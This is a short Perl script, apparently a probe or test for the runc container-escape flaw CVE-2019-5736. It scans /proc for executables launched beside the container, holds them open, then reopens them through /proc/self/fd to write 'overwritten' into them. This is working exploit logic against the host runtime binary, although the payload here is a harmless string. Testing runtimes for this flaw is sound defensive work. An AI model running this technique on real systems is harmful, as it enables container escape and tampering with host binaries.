# A container's root keeps open whatever program it finds executed beside its own, and tries to write to
# it, at once and when it has ended (CVE-2019-5736). Ends when /tmp/enough is there.
use strict;
use warnings;
$| = 1;
my ( %held, %told );
sub tell_once { my $line = shift; print "$line\n" unless $told{$line}++; }

open my $ready, '>', '/tmp/ready' or die;
until ( -e '/tmp/enough' ) {
    opendir my $proc, '/proc' or die;
    for my $pid ( grep { /^\d+$/ } readdir $proc ) {
        my $link = readlink "/proc/$pid/exe" // next;
        next if $link =~ m{^/usr/};
        tell_once "open: $link for writing" if open my $direct, '+<', "/proc/$pid/exe";
        next if keys %held > 40;
        if ( open my $kept, '<', "/proc/$pid/exe" ) {
            $held{"$pid $link"} = $kept;
            tell_once "held $link";
        }
    }
    for my $name ( keys %held ) {
        my $number = fileno $held{$name};
        if ( open my $again, '+<', "/proc/self/fd/$number" ) {
            tell_once "open: $name, again";
            print $again 'overwritten';
        }
    }
}
